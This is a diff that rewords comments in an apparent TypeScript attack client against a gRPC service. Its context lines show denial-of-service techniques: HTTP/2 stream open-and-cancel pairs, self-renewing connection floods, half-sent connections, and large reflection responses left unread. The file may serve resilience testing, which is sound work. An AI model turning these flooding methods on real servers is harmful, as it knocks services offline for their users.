@@ -1,6 +1,6 @@
 /**
- * A client that attacks a gRPC door until it is ended: `attack.ts <host> <port> <attack> <from>`,
- * `from` being the address that it connects from. Prints `attacking` when it has begun.
+ * A client that attacks a gRPC door until it is stopped: `attack.ts <host> <port> <attack> <from>`,
+ * where `from` is the address that it connects from. Prints `attacking` when it has begun.
  */
 import { Buffer } from "node:buffer";
 import { connect as connectHttp2 } from "node:http2";
@@ -19,13 +19,13 @@ const pair = (stream: number) =>
     frame(FRAME.RST_STREAM, 0, stream, CANCEL),
   );
 
-/** Opens connections that send `bytes`; each that ends is replaced by another. */
+/** Opens connections that send `bytes`; each ended connection is replaced by another. */
 function flood(connections: number, bytes: Uint8Array, reads = true): void {
   const open = () => {
     const socket: Socket = connect({ host, port: Number(port), localAddress: from });
     socket.on("connect", () => socket.write(bytes));
     if (reads) socket.resume();
-    // To be cut off is what is wanted.
+    // Being cut off is expected.
     socket.on("error", () => {});
     socket.on("close", () => setTimeout(open, 100));
   };
@@ -49,7 +49,7 @@ function halfSent(connections: number): void {
   for (let left = connections; left > 0; left--) open();
 }
 
-/** Calls of a large answer, with windows for all of it, that nobody reads. */
+/** Calls with a large response, with windows for all of it, that is never read. */
 function unread(connections: number): void {
   const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
   // file_containing_symbol: "mpc.v1.EnvironmentService"
